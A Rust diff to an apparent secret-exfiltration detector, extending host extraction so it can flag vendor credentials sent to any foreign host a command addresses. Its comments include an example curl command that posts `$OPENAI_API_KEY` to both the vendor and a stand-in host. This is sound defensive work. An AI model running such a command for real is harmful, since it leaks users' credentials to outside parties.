@@ -1978,6 +1978,9 @@ struct Host {
     shared: bool,
     owner: String,
     repo: String,
+    /// Every host an argument of the command is the address of, in order (`name` is the one
+    /// its kind chose, from any address).
+    all: Vec<String>,
 }
 
 impl Host {
@@ -2200,6 +2203,11 @@ fn host_of(args: &[&str]) -> Host {
             } else {
                 HostKind::Unknown
             };
+            // A target is an argument that is an address, not one inside a value
+            // (`-d '{"url": "https://your-server.com/hook"}'` sends to the target only).
+            if whole.start() == 0 && !found.all.contains(&host) {
+                found.all.push(host.clone());
+            }
             if kind > found.kind {
                 found = Host {
                     kind,
@@ -2208,6 +2216,7 @@ fn host_of(args: &[&str]) -> Host {
                     shared: publisher.is_some(),
                     owner,
                     repo,
+                    all: std::mem::take(&mut found.all),
                 };
             }
         }
@@ -3302,6 +3311,7 @@ fn exfil(
         .find_map(|b| SECRET_VAR.captures(b).map(|c| c[1].to_owned()))
         .or(upstream_secret);
     let host = host_of(args);
+    let mut shown = host.name.clone();
     let (why, adjust) = if whole_env {
         (
             "sends the whole environment (every secret in it)".to_owned(),
@@ -3317,7 +3327,14 @@ fn exfil(
                 format!("sends the secret `${v}` in a request body or URL"),
                 -1,
             )
-        } else if let Some(vendor) = foreign_vendor(&v, &host.name) {
+        } else if let Some((vendor, to)) = host
+            .all
+            .iter()
+            .find_map(|h| foreign_vendor(&v, h).map(|vendor| (vendor, h)))
+        {
+            // Any host the command sends to: `curl -d "key=$OPENAI_API_KEY" api.openai.com/x
+            // other.example` sends it to both.
+            shown.clone_from(to);
             (
                 format!("sends the {vendor} credential `${v}` to a host that is not {vendor}'s"),
                 -1,
@@ -3342,10 +3359,10 @@ fn exfil(
         snippet,
         format!(
             "`{name}` {why}{}",
-            if host.name.is_empty() {
+            if shown.is_empty() {
                 String::new()
             } else {
-                format!(" to {}", host.name)
+                format!(" to {shown}")
             }
         ),
         Vec::new(),
